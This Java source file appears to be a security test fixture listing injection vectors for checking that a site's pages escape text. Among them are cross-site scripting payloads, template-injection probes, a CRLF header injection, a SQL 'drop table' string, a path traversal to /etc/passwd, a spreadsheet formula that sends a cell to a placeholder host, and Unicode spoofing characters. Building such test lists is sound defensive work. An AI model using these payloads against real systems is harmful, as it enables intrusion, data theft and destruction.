package hemeroteca.attack;

import java.util.List;

/**
 * What a page may say of itself to be more than words: in every place where it says
 * something.
 */
final class FactVectors {

	static final List<Vector> ALL = Vector
		.read("""
				a script                 ~ Quay <script>alert(1)</script> closed
				an image                 ~ Quay <img src=x onerror=alert(1)> closed
				an image elsewhere       ~ Quay <img src=ELSEWHERE/i.png> closed
				a double quote           ~ Quay " onmouseover="alert(1)" autofocus onfocus="alert(1) closed
				a single quote           ~ Quay ' onmouseover='alert(1)' x=' closed
				the end of a tag         ~ Quay "><svg onload=alert(1)> closed
				the end of a title       ~ Quay </title><script>alert(1)</script> closed
				the end of a field       ~ Quay </textarea><script>alert(1)</script> closed
				the end of a script      ~ Quay </script><script>alert(1)</script> closed
				the begin of a comment   ~ Quay <!--<script> closed
				the end of a comment     ~ Quay --!><img src=x onerror=alert(1)> closed
				the end of data          ~ Quay ]]><script>alert(1)</script> closed
				entities                 ~ Quay &lt;img src=x onerror=alert(1)&gt; &quot; &amp;lt;b&amp;gt; closed
				percent signs            ~ Quay %3Cscript%3Ealert(1)%3C/script%3E %00 %0d%0a closed
				script as an address     ~ javascript:alert(1)
				data as an address       ~ data:text/html,<script>alert(1)</script>
				a template               ~ Quay ${7*7} [[${7*7}]] [(${T(java.lang.Runtime)})] __${7*7}__ {{7*7}} #{x} @{x} closed
				a header                 ~ Quay␍␊Set-Cookie: a=b␍␊␍␊<script>alert(1)</script> closed
				a formula                ~ =HYPERLINK("ELSEWHERE/?"&A1,"Quay closed")
				a query                  ~ Quay'; drop table article; -- closed
				turned around            ~ Quay \u202Etxt.exe\u202C \u2066closed\u2069 \u200F\u061C
				control characters       ~ Quay ␀␁\u0002\u0007\u0008␛[31m\u007F\u0085\u009B closed
				invisible letters        ~ Q\u200Bu\u00ADa\uFEFFy \u2060\uFE0F\u180E closed
				separators               ~ Quay\u2028closed\u2029again\u000Bagain
				halves of letters        ~ Quay \uD83D closed \uDE00
				letters of two halves    ~ 😀😀😀 𝔔𝔲𝔞𝔶 👩‍👩‍👧‍👦 \uDB40\uDC41\uDB40\uDC42 closed
				piled marks              ~ Q̴̢̛̺̣̳̥̩̖̝̓̃̽u̸̧͎̗͙̟͍̒̀̎a̶̡̛̳̞̱̘͛̆̿ÿ̸̟̹̠̻͔́̀ closed
				one long word            ~ QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ
				one long address         ~ https://quay.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
				no letter at all         ~ \u200B\u200B\u00A0\u3000
				signs only               ~ ?!#&/\\%
				a path                   ~ ../../../../etc/passwd
				another host             ~ //elsewhere.example/%2e%2e
				a language tag           ~ en" onload="alert(1)
				a fragment               ~ Quay #main?q=x&page=-1;jsessionid=1 closed
				""");

	private FactVectors() {
	}

}
